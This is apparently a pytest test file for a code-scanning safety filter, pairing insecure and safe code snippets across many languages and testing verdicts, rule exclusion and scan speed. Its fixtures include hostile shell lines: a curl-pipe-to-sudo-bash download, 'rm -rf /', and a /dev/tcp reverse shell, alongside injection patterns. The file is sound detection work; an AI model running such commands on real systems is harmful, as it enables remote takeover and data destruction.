"""`inline::code-scanner`: each rule finds what it is for, and lets alone what is right."""

import time

import pytest

from fleet_runtime.config import ConfigError, validate
from fleet_runtime.errors import InvalidArgument
from fleet_safety.code.rules import all_rules
from fleet_safety.code.scanner import scan
from fleet_safety.provider import Shield
from fleet_safety.providers.code_scanner import CodeScanner

SHIELD = Shield("shield", "scanner", "shield")

# Language, what is insecure, and what is not though it looks alike.
EXAMPLES = {
    "python-eval": ("python", "eval(input())", "ast.literal_eval(x)\neval('1 + 1')\nretrieval(x)"),
    "python-os-command": ("python", "os.system('rm ' + x)", "os.system('ls -l')"),
    "python-shell-true": (
        "python",
        "subprocess.run(\n    cmd,\n    shell=True)",
        "subprocess.run(['ls'], check=True)",
    ),
    "python-unpickle": ("python", "pickle.loads(data)", "pickle.dumps(x)\njson.loads(x)"),
    "python-yaml-load": (
        "python",
        "yaml.load(f)",
        "yaml.load(f, Loader=yaml.SafeLoader)\nyaml.safe_load(f)",
    ),
    "python-sql": (
        "python",
        "cursor.execute(f'SELECT * FROM t WHERE id = {x}')",
        "cursor.execute('SELECT * FROM t WHERE id = %s', (x,))",
    ),
    "python-no-tls-check": ("python", "requests.get(url, verify=False)", "get(url, verify=True)"),
    "python-weak-cipher": ("python", "AES.new(key, AES.MODE_ECB)", "AES.new(key, AES.MODE_GCM)"),
    "python-weak-hash": ("python", "hashlib.md5(x)", "hashlib.sha256(x)"),
    "python-weak-random": (
        "python",
        "token = ''.join(random.choice(letters) for _ in range(9))",
        "colour = random.choice(colours)\ntoken = secrets.token_hex()",
    ),
    "python-mktemp": ("python", "tempfile.mktemp()", "tempfile.mkstemp()"),
    "python-debug-server": ("python", "app.run(debug=True)", "app.run(port=80)"),
    "python-extract-all": ("python", "tar.extractall()", "tar.extractall(filter='data')"),
    "python-chmod": ("python", "os.chmod(path, 0o777)", "os.chmod(path, 0o700)"),
    "js-eval": ("js", "new Function(code)()", "retrieval(x)\nsetTimeout(() => go(), 10)"),
    "js-command": ("js", "exec(`rm ${name}`)", "execFile('ls', ['-l'])\nregex.exec(text)"),
    "js-html": ("js", "box.innerHTML = name", "box.textContent = name\nbox.innerHTML = '';"),
    "js-react-html": ("jsx", "<p dangerouslySetInnerHTML={{__html: x}} />", "<p>{x}</p>"),
    "js-sql": (
        "ts",
        "db.query(`SELECT * FROM t WHERE id = ${id}`)",
        "db.query('SELECT * FROM t WHERE id = ?', [id])",
    ),
    "js-no-tls-check": ("js", "{ rejectUnauthorized: false }", "{ rejectUnauthorized: true }"),
    "js-weak-random": ("js", "const token = Math.random()", "const x = Math.random()"),
    "js-weak-hash": ("js", "createHash('md5')", "createHash('sha256')"),
    "js-weak-cipher": (
        "js",
        "createCipheriv('aes-128-ecb', k, null)",
        "createCipheriv('aes-256-gcm', k, iv)",
    ),
    "js-any-origin": ("js", "parent.postMessage(x, '*')", "parent.postMessage(x, origin)"),
    "c-gets": ("c", "gets(line);", "fgets(line, 80, stdin);"),
    "c-unbounded-copy": ("c++", "strcpy(to, from);", "strncpy(to, from, 9);\nsnprintf(t, 9, f);"),
    "c-unbounded-scan": ("c", 'scanf("%s", name);', 'scanf("%79s", name);\nscanf("%d", &n);'),
    "c-format": ("c", "printf(name);", 'printf("%s", name);'),
    "c-command": ("c", "system(cmd);", 'system("ls");\nfile_system(x);'),
    "c-temporary-name": ("c", "tmpnam(name);", "mkstemp(name);"),
    "c-check-then-use": ("c", "if (access(path, W_OK) == 0)", "int access_count(int n);"),
    "shell-run-download": ("sh", "curl -s https://x.y | sudo bash", "curl -s https://x.y | jq .a"),
    "shell-destroy": ("bash", "rm -rf / ", "rm -rf ./build /tmp/x"),
    "shell-reverse": ("bash", "bash -i >& /dev/tcp/10.0.0.1/80 0>&1", "echo hi > /dev/null"),
    "shell-chmod": ("bash", "chmod -R 777 .", "chmod 755 run.sh"),
    "shell-eval": ("bash", 'eval "$x"', "evaluate $x"),
    "shell-no-tls-check": ("bash", "curl -k https://x", "curl -o k https://x"),
    "java-command": ("java", 'rt.exec("ls " + dir)', "pool.exec(task)"),
    "java-deserialize": ("java", "new ObjectInputStream(in)", "new InputStreamReader(in)"),
    "java-sql": (
        "java",
        'st.executeQuery("SELECT " + x)',
        'c.prepareStatement("SELECT ?")',
    ),
    "java-no-tls-check": (
        "java",
        "public void checkServerTrusted(X509Certificate[] c, String a) {}",
        "tm.checkServerTrusted(chain, type);",
    ),
    "java-weak-cipher": (
        "java",
        'Cipher.getInstance("DES")',
        'Cipher.getInstance("AES/GCM/NoPadding")',
    ),
    "java-weak-hash": (
        "java",
        'MessageDigest.getInstance("MD5")',
        'MessageDigest.getInstance("SHA-256")',
    ),
    "php-eval": ("php", "eval($code);", "$x = retrieval($code);"),
    "php-command": ("php", "shell_exec('ls ' . $dir);", "shell_exec('ls');"),
    "php-sql": (
        "php",
        'mysqli_query($c, $q); $q = "SELECT * FROM t WHERE id = $_GET[id]";',
        '$s = "SELECT 1";',
    ),
    "php-html": ("php", "echo $_GET['name'];", "echo htmlspecialchars($name);"),
    "php-include": ("php", "include($_GET['page']);", "include('page.php');"),
    "php-unserialize": ("php", "unserialize($data);", "serialize($data);"),
    "go-command": ("go", 'exec.Command("sh", "-c", cmd)', 'exec.Command("ls", dir)'),
    "go-no-tls-check": ("go", "InsecureSkipVerify: true", "InsecureSkipVerify: false"),
    "go-sql": ("go", 'db.Query(fmt.Sprintf("SELECT %s", x))', 'db.Query("SELECT ?", x)'),
    "go-weak-hash": ("go", "md5.New()", "sha256.New()"),
    "ruby-eval": ("ruby", "eval(params[:code])", "retrieval(params)"),
    "ruby-command": ("ruby", 'system("rm #{name}")', 'system("rm", name)'),
    "ruby-deserialize": ("ruby", "Marshal.load(data)", "JSON.parse(data)"),
    "csharp-deserialize": ("csharp", "new BinaryFormatter()", "new JsonSerializer()"),
    "csharp-sql": ("c#", 'new SqlCommand("SELECT " + x)', 'new SqlCommand("SELECT 1")'),
    "csharp-weak-hash": ("cs", "MD5.Create()", "SHA256.Create()"),
    "private-key": ("text", "-----BEGIN RSA PRIVATE KEY-----", "-----BEGIN CERTIFICATE-----"),
    "cloud-key": ("", "key = AKIAIOSFODNN7EXAMPLE", "AKIA is a prefix"),
    "written-secret": (
        "",
        'password = "hunter2hunter2"',
        'password = "<yours>"\npassword = input()',
    ),
}


@pytest.fixture
def scanner():
    return CodeScanner(CodeScanner.Config())


def fenced(language, code):
    return f"Here you are:\n\n```{language}\n{code}\n```\n\nHave fun!"


def found(text):
    return {issue.rule.id for issue in scan(text, all_rules())}


def test_every_rule_has_an_example():
    """A rule that was never seen at work may find nothing."""
    assert EXAMPLES.keys() == {rule.id for rule in all_rules()}


@pytest.mark.parametrize("rule", EXAMPLES)
def test_a_rule_finds_what_it_is_for_and_no_more(rule):
    """In its language, between fences."""
    language, bad, good = EXAMPLES[rule]

    assert rule in found(fenced(language, bad))
    assert rule not in found(fenced(language, good))


def test_all_rules_are_of_a_weakness_and_a_language_that_there_is():
    """A language that no fence is called would never be looked at."""
    languages = {"c", "csharp", "go", "java", "javascript", "php", "python", "ruby", "shell", "any"}
    for rule in all_rules():
        assert rule.cwe.startswith("CWE-")
        assert rule.languages <= languages


async def judged(scanner, said, call, text):
    (verdict,) = await scanner.moderate(SHIELD, [said(text)], call)
    return verdict


async def test_what_is_found_is_told_with_its_line(scanner, said, call):
    """So that whoever wrote it can look."""
    verdict = await judged(scanner, said, call, "a\n\n```python\nx = 1\neval(x)\n```\n")

    assert "Sorry, I found security concerns in the code." == verdict.user_message
    assert "python-eval" == verdict.metadata["violation_type"]
    assert [
        {
            "rule": "python-eval",
            "cwe": "CWE-95",
            "severity": "error",
            "line": 5,
            "description": "The code runs a text as code.",
        }
    ] == verdict.metadata["issues"]


async def test_what_may_be_right_is_a_warning(scanner, said, call):
    """MD5 is fine for what is no secret."""
    verdict = await judged(scanner, said, call, fenced("python", "hashlib.md5(x)"))

    assert (True, "warn") == (verdict.flagged, verdict.level)


async def test_code_of_one_language_is_not_read_as_another(scanner, said, call):
    """`system` is a function of many."""
    code = fenced("ruby", "system(name)")

    assert not (await judged(scanner, said, call, code)).flagged
    assert (await judged(scanner, said, call, fenced("c", "system(name);"))).flagged


@pytest.mark.parametrize(
    "text",
    [
        "```python\nos.system(x)",
        "~~~~ py title=a\nos.system(x)\n~~~~",
        "> ```python\n> os.system(x)\n> ```",
        "```\nos.system(x)\n```",
        "```unheard-of\nos.system(x)\n```",
        "first\n```json\n{}\n```\nthen\n```python\nos.system(x)\n```",
        "import os\nos.system(x)\n",
    ],
)
async def test_code_is_found_however_it_is_quoted(scanner, said, call, text):
    """An open fence is that of an answer which is still being written."""
    assert (await judged(scanner, said, call, text)).flagged


async def test_rules_can_be_left_out(said, call):
    """By their names, or all of a weakness."""
    for name in ("python-weak-hash", "CWE-328"):
        scanner = CodeScanner(validate(CodeScanner.Config, {"excluded_rules": [name]}))

        assert not (await judged(scanner, said, call, "hashlib.md5(x)")).flagged
    with pytest.raises(ConfigError, match="no rule 'python-poem'"):
        validate(CodeScanner.Config, {"excluded_rules": ["python-poem"]})


async def test_texts_that_take_too_long_are_refused(said, call):
    """Rather than read in part."""
    scanner = CodeScanner(CodeScanner.Config(max_characters=10))
    with pytest.raises(InvalidArgument, match="has 11 characters"):
        await judged(scanner, said, call, "hello world")


@pytest.mark.parametrize(
    "part",
    ["(", "a", "exec(", "execute('", "```\n", "password = '", "system(", " ", "<", "\n", "x.y("],
)
def test_no_text_makes_rules_slow(part):
    """Twice as long takes twice as long, or somebody could stop the service with one."""

    def seconds(length):
        text = part * (length // len(part))
        begun = time.process_time()
        scan(text, all_rules())
        return time.process_time() - begun

    short = min(seconds(4_000) for _ in range(3))

    assert seconds(40_000) < 40 * max(short, 0.005)
